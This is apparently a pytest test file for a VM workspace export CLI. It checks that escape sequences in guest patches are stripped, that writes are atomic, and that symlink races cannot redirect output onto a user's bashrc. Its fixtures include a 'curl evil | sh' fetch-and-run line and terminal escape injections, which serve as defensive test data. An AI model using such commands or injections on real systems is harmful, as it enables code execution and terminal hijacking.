"""What comes out of a guest, on a terminal, in a file, as a report."""

import os
from collections.abc import Callable
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest

from banger.cli.commands import workspace_out
from banger.cli.parser import parse
from banger.cli.render.returned import Painter, render_returned
from banger.client.wire import Failure, RemoteProblem

PATCH = b"diff --git a/x b/x\nindex 1..2 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n keep\n--- old\n+\x1b]0;evil\x07new\n"


def paint(*pieces: bytes, colour: bool = True) -> str:
    written: list[str] = []
    painter = Painter(written.append, colour=colour)
    for piece in pieces:
        painter.feed(piece)
    painter.end()
    return "".join(written)


def test_a_patch_is_in_colours_and_drives_no_terminal() -> None:
    text = paint(PATCH)
    assert "\x1b]0" not in text
    assert "\x07" not in text
    assert "\x1b[31m--- old\x1b[m\n" in text
    assert "\x1b[1m--- a/x\x1b[m\n" in text
    assert "\x1b[36m@@ -1,2 +1,2 @@\x1b[m\n" in text


def test_without_colours_there_is_no_escape_at_all() -> None:
    assert "\x1b" not in paint(PATCH, colour=False)


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_how_it_was_cut_does_not_matter(size: int) -> None:
    data = PATCH + "+ä€\U0001f600\n".encode()
    assert paint(*(data[start : start + size] for start in range(0, len(data), size))) == paint(data)


def test_a_line_without_end_is_not_kept_in_memory() -> None:
    written: list[str] = []
    painter = Painter(written.append, colour=False)
    for _ in range(100):
        painter.feed(b"+" + b"x" * 65536)
    assert len("".join(written)) > 90 * 65536


class Command:
    """A stream of the daemon's that says these frames."""

    def __init__(self, frames: list[tuple[int, bytes]]) -> None:
        self._frames = [frames]
        self._read, self._write = os.pipe()
        os.write(self._write, b"x")

    def fileno(self) -> int:
        return self._read

    def receive(self) -> list[tuple[int, memoryview]] | None:
        return [(kind, memoryview(data)) for kind, data in self._frames.pop(0)] if self._frames else None

    def close(self) -> None:
        os.close(self._read)
        os.close(self._write)


class Connection:
    def __init__(self, frames: list[tuple[int, bytes]]) -> None:
        self._frames = frames
        self.asked: list[tuple[str, dict]] = []

    def __enter__(self) -> "Connection":
        return self

    def __exit__(self, *_: object) -> None: ...

    def stream(self, method: str, params: dict) -> Command:
        self.asked.append((method, params))
        return Command(self._frames)


@pytest.fixture
def daemon(monkeypatch: pytest.MonkeyPatch):
    def answer(*frames: tuple[int, bytes]) -> Connection:
        connection = Connection([*frames])
        monkeypatch.setattr(workspace_out, "open_connection", lambda: connection)
        return connection

    return answer


def run(*words: str) -> int:
    arguments = parse(["workspace", *words])
    return getattr(workspace_out, words[0])(arguments)


def test_a_file_is_there_when_it_is_whole(daemon, tmp_path: Path) -> None:
    connection = daemon((1, b"one\0"), (1, b"two"), (4, b'{"status":0}'))
    assert run("export", "box", "-o", str(tmp_path / "x.patch"), "--max-size", "2G") == 0
    assert (tmp_path / "x.patch").read_bytes() == b"one\0two"
    assert connection.asked == [("workspace.export", {"vm": "box", "max_size_bytes": 2 << 30})]
    assert [path.name for path in tmp_path.iterdir()] == ["x.patch"]


@pytest.mark.parametrize(
    "frames",
    [
        [(1, b"half"), (4, b'{"error":{"code":"operation_failed","message":"x","outcome":"failed"}}')],
        [(1, b"half")],
    ],
)
def test_a_file_stays_as_it_was_when_the_stream_breaks(daemon, tmp_path: Path, frames) -> None:
    (tmp_path / "x.patch").write_bytes(b"before")
    daemon(*frames)
    with pytest.raises((RemoteProblem, Failure)):
        run("export", "box", "-o", str(tmp_path / "x.patch"))
    assert (tmp_path / "x.patch").read_bytes() == b"before"
    assert [path.name for path in tmp_path.iterdir()] == ["x.patch"]


def test_a_link_to_a_file_stays_a_link_and_a_device_stays_one(daemon, tmp_path: Path) -> None:
    (tmp_path / "real").write_bytes(b"")
    (tmp_path / "link").symlink_to("real")
    daemon((1, b"new"), (4, b'{"status":0}'))
    run("export", "box", "-o", str(tmp_path / "link"))
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "real").read_bytes() == b"new"
    daemon((1, b"new"), (4, b'{"status":0}'))
    run("export", "box", "-o", "/dev/null")
    assert Path("/dev/null").is_char_device()


def test_a_place_that_cannot_be_written_is_one_line(daemon, tmp_path: Path) -> None:
    daemon()
    with pytest.raises(Failure, match="cannot be written"):
        run("export", "box", "-o", str(tmp_path / "no" / "x"))


def meanwhile(monkeypatch: pytest.MonkeyPatch, act: Callable[[], object]) -> None:
    """Somebody else does something while the guest is still speaking."""
    write_all = workspace_out._write_all

    def write(descriptor: int, data: bytes | memoryview) -> None:
        act()
        write_all(descriptor, data)

    monkeypatch.setattr(workspace_out, "_write_all", write)


def test_a_link_that_others_put_there_meanwhile_is_not_followed(daemon, tmp_path: Path, monkeypatch) -> None:
    mine, shared = tmp_path / "bashrc", tmp_path / "shared"
    mine.write_bytes(b"mine")
    shared.mkdir()
    meanwhile(monkeypatch, lambda: (shared / "x.patch").symlink_to(mine))
    daemon((1, b"curl evil | sh"), (4, b'{"status":0}'))
    run("export", "box", "-o", str(shared / "x.patch"))
    assert mine.read_bytes() == b"mine"
    assert not (shared / "x.patch").is_symlink()
    assert (shared / "x.patch").read_bytes() == b"curl evil | sh"


def test_a_directory_that_others_replace_meanwhile_is_still_the_one(
    daemon, tmp_path: Path, monkeypatch
) -> None:
    mine, shared = tmp_path / "mine", tmp_path / "shared"
    mine.mkdir()
    shared.mkdir()

    def replace() -> None:
        shared.rename(tmp_path / "before")
        shared.symlink_to(mine)

    meanwhile(monkeypatch, replace)
    daemon((1, b"patch"), (4, b'{"status":0}'))
    run("export", "box", "-o", str(shared / "x.patch"))
    assert list(mine.iterdir()) == []
    assert (tmp_path / "before" / "x.patch").read_bytes() == b"patch"


def test_a_link_to_another_file_system_is_written_there(daemon, tmp_path: Path) -> None:
    with TemporaryDirectory(dir="/dev/shm") as elsewhere:
        if os.stat(elsewhere).st_dev == tmp_path.stat().st_dev:
            pytest.skip("there is one file system only")
        real = Path(elsewhere) / "real"
        real.write_bytes(b"old")
        (tmp_path / "link").symlink_to(real)
        daemon((1, b"new"), (4, b'{"status":0}'))
        run("export", "box", "-o", str(tmp_path / "link"))
        assert real.read_bytes() == b"new"
        assert list(Path(elsewhere).iterdir()) == [real]
    assert [path.name for path in tmp_path.iterdir()] == ["link"]


def test_a_pipe_that_becomes_a_file_is_not_written(daemon, tmp_path: Path, monkeypatch) -> None:
    mine = tmp_path / "bashrc"
    mine.write_bytes(b"mine")
    monkeypatch.setattr(workspace_out, "_is_file", lambda _path: False)
    daemon((1, b"evil"), (4, b'{"status":0}'))
    with pytest.raises(Failure, match="has become another file"):
        run("export", "box", "-o", str(mine))
    assert mine.read_bytes() == b"mine"


def test_a_name_that_cannot_be_taken_in_the_end_is_one_line(daemon, tmp_path: Path, monkeypatch) -> None:
    meanwhile(monkeypatch, (tmp_path / "x.patch").mkdir)
    daemon((1, b"patch"), (4, b'{"status":0}'))
    with pytest.raises(Failure, match="cannot be written: Is a directory"):
        run("export", "box", "-o", str(tmp_path / "x.patch"))
    assert [path.name for path in tmp_path.iterdir()] == ["x.patch"]


def test_a_directory_that_is_not_there_is_no_name_for_a_file(daemon, tmp_path: Path) -> None:
    daemon()
    with pytest.raises(Failure, match="cannot be written"):
        run("export", "box", "-o", f"{tmp_path}/no/")
    assert list(tmp_path.iterdir()) == []


def test_to_a_pipe_the_bytes_go_as_they_are(daemon, capfdbinary) -> None:
    daemon((1, b"\x1b[31m\0\xff"), (4, b'{"status":0}'))
    assert run("diff", "box", "--stat") == 0
    assert capfdbinary.readouterr().out == b"\x1b[31m\0\xff"


RETURNED = {
    "vm": "box",
    "repository": "/home/me/repo",
    "branches": [
        {
            "branch": "main",
            "ref": "refs/banger/box/main",
            "commit": "1" * 40,
            "before": "",
            "move": "new",
            "commit_count": 12,
            "commits": [{"id": "2" * 40, "author": "A <a@x>", "date": "2024", "subject": "s\x1b[2J"}],
            "files": {"added": 1, "modified": 2, "deleted": 3},
            "findings": [{"kind": "hook", "path": ".husky/x", "what": "is new"}] * 45,
        }
    ],
    "objects": 7,
    "pack_bytes": 100,
    "unpacked_bytes": 4096,
    "uncommitted": 3,
    "notes": ["1 branches have names"],
}


def test_a_report_names_refs_commits_findings_and_what_did_not_come() -> None:
    text = render_returned(RETURNED)
    assert "refs/banger/box/main 111111111111 (new)" in text
    assert "12 new commits; files: 1 added, 2 changed, 3 deleted" in text
    assert "and 11 more" in text
    assert "[hooks] .husky/x is new" in text
    assert "and 5 more: --json has all" in text
    assert "3 files are changed in the guest and not committed: banger workspace export box" in text
    assert "git merge refs/banger/box/main" in text
    assert "\x1b" not in text


def test_a_report_of_nothing_says_so() -> None:
    nothing = {"vm": "box", "branches": [], "objects": 0, "unpacked_bytes": 0, "uncommitted": 0, "notes": []}
    assert render_returned(nothing) == "the guest has no commits that are not here already\n"
